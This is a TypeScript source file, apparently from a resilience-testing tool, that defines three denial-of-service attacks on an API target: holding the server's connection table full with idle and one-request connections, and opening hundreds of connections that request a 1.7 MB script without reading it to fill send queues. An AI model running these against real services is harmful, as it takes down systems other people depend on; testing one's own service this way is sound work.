import type { Attack } from './attack.ts';
import { sendOnEach, withSockets } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

/**
 * Fills the table of connections with 1,500 that have sent one valid request each. Then opens 50 a second: in turn one of
 * those again and one that sends nothing. In small steps, because the attack is on the table, not on the time to accept
 * connections.
 */
export const holdConnections: Attack = (target) =>
  withSockets(target, async ({ open, wait, isOver }) => {
    const list = request('GET /v1/pets', [bearer(target.apiKey)]);
    for (let opened = 0; opened < 1_500; opened += 20) {
      await sendOnEach(open, 20, list);
      await wait(20);
    }
    while (!isOver()) {
      await sendOnEach(open, 1, list);
      await wait(20);
      await open();
      await wait(20);
    }
  });

/** Requests a script of 1.7 MB on each of 1,100 connections, without a key, and reads none of it. */
export const waitForScripts: Attack = (target) =>
  withSockets(target, async ({ openDeaf, untilOver }) => {
    const script = request('GET /docs/swagger-ui-bundle.js');
    for (let opened = 0; opened < 1_100; opened += 100) {
      await sendOnEach(openDeaf, 100, script);
    }
    await untilOver();
  });

/** The same on 250 connections, as many as a machine can hold without the limit. */
export const fillSendQueues: Attack = (target) =>
  withSockets(target, async ({ openDeaf, untilOver }) => {
    const script = request('GET /docs/swagger-ui-bundle.js');
    await sendOnEach(openDeaf, 250, script);
    await untilOver();
  });
